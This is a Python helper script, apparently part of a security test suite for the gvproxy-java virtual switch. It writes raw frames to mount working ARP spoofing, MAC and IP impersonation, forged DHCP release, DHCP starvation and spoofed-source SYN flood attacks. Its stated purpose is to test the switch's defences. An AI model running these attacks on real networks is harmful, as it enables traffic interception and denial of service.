#!/usr/bin/env python3
"""Layer-2 attacks from a namespace guest, written as raw frames on its TAP (AF_PACKET, stdlib only).

Used by SwitchSecurityNetnsTest; every frame stays on the guest's TAP, i.e. goes to gvproxy-java's switch.
"""
import random
import socket
import struct
import sys
import time

BCAST = b"\xff" * 6
GW_MAC = bytes.fromhex("5a94efe40cdd")


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def ip(s):
    return socket.inet_aton(s)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def eth(dst, src, etype, payload):
    return dst + src + struct.pack("!H", etype) + payload


def arp(op, sha, spa, tha, tpa):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sha + spa + tha + tpa


def ipv4(src, dst, proto, payload):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randint(0, 0xFFFF), 0, 64, proto, 0,
                    src, dst)
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def udp(src, dst, sport, dport, data):
    u = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    c = csum(src + dst + struct.pack("!BBH", 0, 17, len(u)) + u) or 0xFFFF
    return u[:6] + struct.pack("!H", c) + u[8:]


def tcp_syn(src, dst, sport, dport):
    t = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(t)) + t)
    return t[:16] + struct.pack("!H", c) + t[18:]


def dhcp(msg_type, chaddr, xid, ciaddr=b"\0" * 4, options=b""):
    b = struct.pack("!BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, 0x8000, ciaddr, b"\0" * 4, b"\0" * 4, b"\0" * 4)
    b += chaddr + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63"
    b += bytes([53, 1, msg_type]) + options + b"\xff"
    return b + b"\0" * max(0, 300 - len(b))


def sock(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    return s


def send(s, frame):
    while True:
        try:
            s.send(frame)
            return
        except OSError:  # TAP queue full: let the agent drain it
            time.sleep(0.001)


def dhcp_replies(s, seconds, want=None):
    """Yields (type, yiaddr, chaddr, xid) of DHCP server replies seen within seconds."""
    end = time.time() + seconds
    s.settimeout(0.2)
    while time.time() < end:
        try:
            f = s.recv(2048)
        except socket.timeout:
            continue
        if len(f) < 14 + 20 + 8 + 240 or f[12:14] != b"\x08\x00" or f[23] != 17:
            continue
        ihl = (f[14] & 0x0F) * 4
        u = 14 + ihl
        if struct.unpack("!H", f[u:u + 2])[0] != 67:
            continue
        d = u + 8
        xid = struct.unpack("!I", f[d + 4:d + 8])[0]
        yiaddr = socket.inet_ntoa(f[d + 16:d + 20])
        chaddr = f[d + 28:d + 34]
        t = None
        o = d + 240
        while o < len(f) and f[o] != 255:
            if f[o] == 0:
                o += 1
                continue
            if f[o] == 53:
                t = f[o + 2]
            o += 2 + f[o + 1]
        yield t, yiaddr, chaddr, xid


def main(argv):
    cmd, iface = argv[1], argv[2]
    s = sock(iface)
    if cmd == "garp":  # garp IFACE MAC CLAIMED_IP COUNT
        m, claimed, n = mac(argv[3]), ip(argv[4]), int(argv[5])
        for _ in range(n):
            send(s, eth(BCAST, m, 0x0806, arp(1, m, claimed, b"\0" * 6, claimed)))
            send(s, eth(BCAST, m, 0x0806, arp(2, m, claimed, BCAST, claimed)))
            time.sleep(0.01)
    elif cmd == "spoofmac":  # spoofmac IFACE VICTIM_MAC VICTIM_IP COUNT
        m, vip, n = mac(argv[3]), ip(argv[4]), int(argv[5])
        gw = ip("192.168.127.1")
        for i in range(n):
            send(s, eth(BCAST, m, 0x0806, arp(1, m, vip, b"\0" * 6, gw)))
            icmp = struct.pack("!BBHHH", 8, 0, 0, 0x4242, i) + b"x" * 32
            icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
            send(s, eth(GW_MAC, m, 0x0800, ipv4(vip, gw, 1, icmp)))
            time.sleep(0.005)
    elif cmd == "release":  # release IFACE SRC_MAC SRC_IP CHADDR CIADDR
        m, sip, ch, ci = mac(argv[3]), ip(argv[4]), mac(argv[5]), ip(argv[6])
        gw = ip("192.168.127.1")
        d = dhcp(7, ch, random.getrandbits(32), ci, bytes([54, 4]) + gw)
        for _ in range(3):
            send(s, eth(GW_MAC, m, 0x0800, ipv4(sip, gw, 17, udp(sip, gw, 68, 67, d))))
    elif cmd == "reboot":  # reboot IFACE MAC REQUESTED_IP: INIT-REBOOT, prints the reply type or none
        m, req = mac(argv[3]), ip(argv[4])
        xid = random.getrandbits(32)
        d = dhcp(3, m, xid, options=bytes([50, 4]) + req)
        zero, bc = b"\0" * 4, b"\xff" * 4
        send(s, eth(BCAST, m, 0x0800, ipv4(zero, bc, 17, udp(zero, bc, 68, 67, d))))
        for t, yi, ch, x in dhcp_replies(s, 3):
            if x == xid:
                print({5: "ACK", 6: "NAK"}.get(t, str(t)), yi)
                return
        print("none")
    elif cmd == "dhcpflood":  # dhcpflood IFACE COUNT: DISCOVER+REQUEST from COUNT MACs; prints ACKs
        n = int(argv[3])
        macs = [bytes([0x02, 0x66, 0, 0, i >> 8, i & 0xFF]) for i in range(n)]
        zero, bc = b"\0" * 4, b"\xff" * 4
        gw = ip("192.168.127.1")
        for i, m in enumerate(macs):
            d = dhcp(1, m, 0x10000 + i)
            send(s, eth(BCAST, m, 0x0800, ipv4(zero, bc, 17, udp(zero, bc, 68, 67, d))))
        offers = {}
        for t, yi, ch, x in dhcp_replies(s, 3):
            if t == 2 and ch in macs:
                offers[ch] = (yi, x)
        for ch, (yi, x) in offers.items():
            d = dhcp(3, ch, x, options=bytes([50, 4]) + ip(yi) + bytes([54, 4]) + gw)
            send(s, eth(BCAST, ch, 0x0800, ipv4(zero, bc, 17, udp(zero, bc, 68, 67, d))))
        acks = set()
        for t, yi, ch, x in dhcp_replies(s, 3):
            if t == 5 and ch in offers:
                acks.add(yi)
        print("offers", len(offers), "acks", len(acks))
    elif cmd == "synflood":  # synflood IFACE SRC_MAC DST_IP DPORT COUNT: SYNs from outside the subnet
        m, dst, port, n = mac(argv[3]), ip(argv[4]), int(argv[5]), int(argv[6])
        for _ in range(n):
            a = random.choice([10, 172, 198, 203, 8, 1])
            src = bytes([a, random.randint(0, 255), random.randint(0, 255), random.randint(1, 254)])
            send(s, eth(GW_MAC, m, 0x0800, ipv4(src, dst, 6, tcp_syn(src, dst, random.randint(1024, 65535), port))))
    else:
        raise SystemExit("unknown command " + cmd)


if __name__ == "__main__":
    main(sys.argv)
